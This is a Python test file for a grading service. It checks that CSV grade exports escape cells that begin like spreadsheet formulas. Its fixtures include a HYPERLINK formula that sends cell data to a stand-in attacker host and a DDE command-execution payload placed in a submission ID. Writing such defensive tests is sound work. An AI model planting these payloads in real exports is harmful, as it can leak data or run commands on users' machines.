"""The grade CSV opens in a spreadsheet as text: no cell starts a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from flask.testing import FlaskClient

from shared.bootstrap import Adapters
from shared.clock import FrozenClock
from shared.codecs.csv_cells import csv_line, safe_cell
from shared.domain.grade import GradeResult
from tests.fakes import FakeTaskQueue
from tests.unit.test_assignments_api import auth, client, create, submit  # noqa: F401

FEEDBACK = '=HYPERLINK("https://attacker.example/?"&A2,"see feedback")'


def test_text_that_starts_like_a_formula_gets_a_leading_quote() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("light and chlorophyll") == "light and chlorophyll"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("") == "" and safe_cell(None) == ""
    assert safe_cell("-3") == "'-3"  # text, whatever it looks like


def test_numbers_made_by_gradeq_stay_numbers_and_booleans_text() -> None:
    assert safe_cell(-1.5) == -1.5 and safe_cell(-2) == -2
    assert safe_cell(True) == "True"
    assert csv_line(["=1", -2, 3.5, None]) == "'=1,-2,3.5,\r\n"


def test_the_grade_sheet_neutralises_feedback_ids_verdicts_and_headers(
    client: FlaskClient,  # noqa: F811
    adapters: Adapters,
    clock: FrozenClock,
) -> None:
    rubric = ["=1+1", "@SUM(A1:A9)", "mentions light"]
    body = {"title": "Photosynthesis", "rubric": rubric, "max_score": 10}
    assignment_id = create(client, body=body).get_json()["id"]
    submit(client, assignment_id, [{"submission_id": "+cmd|' /C calc'!A0", "answer": "light"}])
    queue = adapters.queue
    assert isinstance(queue, FakeTaskQueue)
    [task] = queue.tasks
    verdicts = ({"criterion": "=1+1", "verdict": "-2"}, {"criterion": "@", "score": -1.0})
    result = GradeResult(7.0, 10.0, FEEDBACK, verdicts)
    adapters.store.update(task.job_id, lambda j: j.claim("w", clock.now(), timedelta(seconds=30)))
    adapters.store.update(task.job_id, lambda j: j.succeed("w", result, clock.now()))

    response = client.get(
        f"/v1/assignments/{assignment_id}/grades", headers=auth(Accept="text/csv")
    )
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert header[-3:] == ["'=1+1", "'@SUM(A1:A9)", "mentions light"]
    cells = dict(zip(header, row, strict=True))
    assert cells["feedback"] == "'" + FEEDBACK
    assert cells["submission_id"] == "'+cmd|' /C calc'!A0"
    assert (cells["'=1+1"], cells["'@SUM(A1:A9)"]) == ("'-2", "-1.0")
    assert cells["final_score"] == cells["model_score"] == "7.0"
